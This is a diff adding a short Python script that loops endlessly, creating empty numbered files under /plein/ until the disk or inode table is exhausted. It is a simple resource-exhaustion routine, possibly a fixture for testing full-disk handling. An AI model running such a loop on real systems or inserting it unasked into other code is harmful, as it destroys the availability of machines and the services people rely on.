@@ -1,0 +1,4 @@
+import itertools
+
+for number in itertools.count():
+    open(f"/plein/{number}", "w").close()
